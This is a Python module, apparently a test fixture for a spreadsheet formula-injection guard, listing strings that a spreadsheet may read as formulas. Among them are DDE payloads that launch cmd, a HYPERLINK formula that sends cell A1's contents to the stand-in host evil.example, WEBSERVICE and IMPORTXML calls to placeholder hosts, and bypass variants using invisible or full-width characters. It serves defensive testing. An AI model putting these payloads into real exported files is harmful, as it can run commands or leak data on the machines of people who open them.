"""Texts that a spreadsheet might take for a formula, or that look like what a guard makes of one."""

from __future__ import annotations

PAYLOADS = (
    '=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    '=IMPORTXML("http://e.example","//a")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")',
    '=SUM(1;2)', '=-1+1', '==1', '= 1+1', '+1+1', '+49 170 1234567', "+cmd|' /C calc'!A0", '-1+1',
    "-2+3+cmd|' /C calc'!A0", '-', "@SUM(1+1)*cmd|' /C calc'!A0", '@x', '|calc', '%0A=1', '\t=1+1', '\tTab',
    '\r=1+1', '\n=1+1', ' =1+1', '   @SUM(A1)', '\xa0=1', '\ufeff=1+1', '\u200b=1', '＝1+1', '＋1', '－1', '＠SUM(1)',
    "'=1+1", "''=1", "' +1", '"=1+1"', '="a","b"', '=1+1\n=2+2', '=1;=2', "'apostroph", "''", "'",
    '−1 (Minuszeichen)',
)  # fmt: skip
